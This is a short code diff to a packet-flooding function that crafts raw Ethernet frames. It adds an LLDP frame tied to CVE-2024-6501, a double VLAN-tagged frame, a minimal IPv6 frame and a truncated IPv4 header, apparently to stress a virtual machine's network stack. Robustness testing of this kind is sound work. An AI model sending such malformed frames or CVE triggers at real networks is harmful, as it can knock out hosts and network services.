@@ -58,6 +58,11 @@ def flood(link):
             frames.append(VM + HERE + b"\x08\x00" + ipv4(stranger, target, 1, b"\x08\x00\xf7\xff" + bytes(4)))
             arp = b"\x00\x01\x08\x00\x06\x04\x00" + bytes([1 + n % 2]) + HERE + stranger + bytes(6) + target
             frames.append(b"\xff" * 6 + HERE + b"\x08\x06" + arp)
+        # LLDP (CVE-2024-6501), IPv6, a tag in a tag, and next to nothing.
+        frames.append(bytes.fromhex("0180c200000e") + HERE + b"\x88\xcc" + b"\x02\x07\x04" + HERE + bytes(60))
+        frames.append(VM + HERE + b"\x86\xdd\x60" + bytes([0, 0, 0, 0, 8, 58, 255]) + bytes(40))
+        frames.append(VM + HERE + b"\x81\x00\x00\x64\x81\x00\x00\x00\x08\x00" + bytes(40))
+        frames.append(VM + HERE + b"\x08\x00\x45")
     sent = 0
 
     def end(*_):
